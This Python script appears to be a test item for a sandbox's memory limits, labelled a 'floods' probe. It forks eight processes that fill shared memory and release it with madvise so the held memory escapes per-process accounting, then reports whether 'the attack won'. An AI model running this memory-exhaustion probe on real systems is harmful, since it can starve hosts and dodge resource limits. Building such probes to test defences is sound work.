"""family: floods
tries: shared memory that no process's own count shows: given back to the kernel's cache, but not freed
honest: all
"""

# %%
import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
SIZE, STEP = 130 << 20, 1 << 20


def hoard(flags, descriptor):
    start = libc.mmap(None, SIZE, 3, flags, descriptor, 0)
    if start in (None, ctypes.c_void_p(-1).value):
        return
    for at in range(start, start + SIZE, STEP):
        ctypes.memset(at, 120, STEP)
        libc.madvise(at, STEP, mmap.MADV_DONTNEED)
        os.write(write, b"x")


read, write = os.pipe()
for number in range(8):
    if os.fork() == 0:
        try:
            if number % 2:
                hoard(mmap.MAP_SHARED | mmap.MAP_ANONYMOUS, -1)
            else:
                hoard(mmap.MAP_SHARED, os.open("/dev/zero", os.O_RDWR))
            time.sleep(60)
        finally:
            os._exit(0)
time.sleep(1.5)
os.write(write, b".")
held = len(os.read(read, 1 << 16))
if held > 700:
    print("the attack" " won", held, "MB")
